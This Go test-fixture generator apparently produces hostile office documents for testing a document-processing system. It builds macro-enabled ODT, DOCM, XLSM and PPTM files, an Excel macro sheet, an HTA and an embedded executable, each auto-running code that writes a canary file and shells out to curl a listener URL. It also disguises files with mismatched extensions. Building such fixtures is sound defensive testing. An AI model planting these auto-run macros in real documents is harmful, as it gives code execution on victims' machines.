package hostile

import (
	"strings"

	"xietong.dev/test/documents/parts"
)

const (
	macroWord = "application/vnd.ms-word.document.macroEnabled.main+xml"
	macroBook = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
	macroDeck = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
	project   = "application/vnd.ms-office.vbaProject"
	projectOf = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
)

// macros are programs inside documents, which run on opening where they may.
// Each would call the listener and write a file beside the canary.
func (m *maker) macros() {
	for _, kind := range []string{"text", "spreadsheet", "presentation"} {
		extension := map[string]string{"text": "odt", "spreadsheet": "ods", "presentation": "odp"}[kind]
		name := extension + ", Basic on opening"
		m.may(name, extension, m.basic(kind, name, "vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document", "dom:load", false).Bytes())
		name = "f" + extension + ", Basic on opening"
		m.may(name, "f"+extension, m.basic(kind, name, "vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document", "dom:load", true).Flat())
	}
	for _, event := range []string{"office:new", "office:load-finished", "office:view-created", "office:print", "office:layout-finished", "dom:unload"} {
		name := "odt, Basic on " + event
		m.may(name, "odt", m.basic("text", name, "vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document", event, false).Bytes())
	}
	name := "odt, a script of the office's own"
	m.may(name, "odt", m.basic("text", name, "vnd.sun.star.script:../../../../../../../usr/lib/python3/os.py$system?language=Python&amp;location=share", "dom:load", false).Bytes())
	name = "odt, a python script inside"
	python := m.basic("text", name, "vnd.sun.star.script:a.py$run?language=Python&amp;location=document", "dom:load", false)
	python.Files = []parts.Part{{Name: "Scripts/python/a.py", Data: []byte("import os\ndef run(*a):\n    open('" + m.canary + "/python.txt', 'w').write('ran')\n    os.system('curl " + m.web(name) + "')\n")}}
	m.may(name, "odt", python.Bytes())
	name = "odt, a command"
	m.may(name, "odt", m.basic("text", name, "macro:///Standard.M.Main()", "dom:load", false).Bytes())
	binary := compound(stream{"PROJECT", []byte("ID=\"{0}\"\r\nModule=M\r\n[Host Extender Info]\r\n")}, stream{"dir", []byte{1, 0, 0}},
		stream{"M", []byte("\x01\x00\xb0Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nShell \"curl " + m.web("vba") + "\"\r\nEnd Sub\r\nSub Document_Open()\r\nAutoOpen\r\nEnd Sub\r\n")})
	w := simpleWord()
	w.Kind = macroWord
	w.Package.Add("word/vbaProject.bin", project, binary)
	w.Relates(projectOf, "vbaProject.bin")
	data := w.Bytes()
	m.may("docm, VBA", "docm", data)
	m.may("docm, VBA, called docx", "docx", data)
	b := simpleBook()
	b.Kind = macroBook
	b.Add("xl/vbaProject.bin", project, binary)
	b.Relate("xl/workbook.xml", projectOf, "vbaProject.bin")
	m.may("xlsm, VBA", "xlsm", b.Bytes())
	d := simpleDeck()
	d.Kind = macroDeck
	d.Add("ppt/vbaProject.bin", project, binary)
	d.Relate("ppt/presentation.xml", projectOf, "vbaProject.bin")
	m.may("pptm, VBA", "pptm", d.Bytes())
	b = simpleBook()
	b.Kind = macroBook
	b.Names = `<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>`
	b.AddXML("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("curl `+m.web("xlsm, macro sheet")+`")</f></c></row></sheetData></xm:macrosheet>`)
	b.Relate("xl/workbook.xml", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml")
	m.may("xlsm, macro sheet", "xlsm", b.Bytes())
	m.may("hta", "hta", []byte(`<script language="VBScript">CreateObject("WScript.Shell").Run "curl `+m.web("hta")+`"</script>`))
	w = simpleWord()
	w.Add(parts.P("", `<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" DrawAspect="Icon" r:id="`+w.Relates("oleObject", "embeddings/oleObject1.bin")+`"/></w:object></w:r>`))
	w.Package.Add("word/embeddings/oleObject1.bin", "", compound(stream{"\x01Ole10Native", []byte("\x00\x10\x00\x00\x02\x00a.exe\x00C:\\a.exe\x00MZ")}))
	m.may("docx, a program inside", "docx", w.Bytes())
}

// basic is an OpenDocument that runs something at an event.
func (m *maker) basic(kind, name, script, event string, flat bool) parts.Open {
	source := parts.Escape("Sub Main\nn = FreeFile\nOpen \"" + m.canary + "/basic.txt\" For Output As #n\nPrint #n, \"ran\"\nClose #n\nShell(\"curl\", 0, \"" + m.web(name) + "\")\nEnd Sub\n")
	o := simpleOpen(kind)
	listener := `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="` + event + `" xlink:href="` + script + `" xlink:type="simple"/></office:event-listeners>`
	o.Before = `<office:scripts>` + listener + `</office:scripts>`
	if flat {
		o.Before = `<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>` + source + `</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>` + listener + `</office:scripts>`
		return o
	}
	const doctype = `<?xml version="1.0" encoding="UTF-8"?>` + "\n"
	o.Files = []parts.Part{
		{Name: "Basic/script-lc.xml", Data: []byte(doctype + `<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`)},
		{Name: "Basic/Standard/script-lb.xml", Data: []byte(doctype + `<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="M"/></library:library>`)},
		{Name: "Basic/Standard/M.xml", Data: []byte(doctype + `<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">` + source + `</script:module>`)},
	}
	return o
}

// wrongNames are documents whose names say something else.
func (m *maker) wrongNames() {
	is := []struct{ what, name string }{
		{"docx", "函-数据共享.docx"}, {"doc", "通知-老旧小区改造.doc"}, {"xlsx", "部门预算执行.xlsx"}, {"xls", "部门预算执行.xls"}, {"pptx", "办理流程图.pptx"}, {"odt", "函-数据共享.odt"},
		{"pdf", "通知-老旧小区改造.pdf"}, {"png", "扫描件.png"}, {"html", "营商环境.html"}, {"rtf", "作息时间.rtf"}, {"epub", "滨海工作读本.epub"}, {"txt", "值班电话.txt"}, {"fodt", "查阅须知.fodt"},
	}
	called := strings.Fields("pdf docx xls png txt html csv exe")
	for _, d := range is {
		for _, extension := range called {
			if extension != d.what {
				m.may(d.what+" called "+extension, extension, m.document(d.name))
			}
		}
	}
}
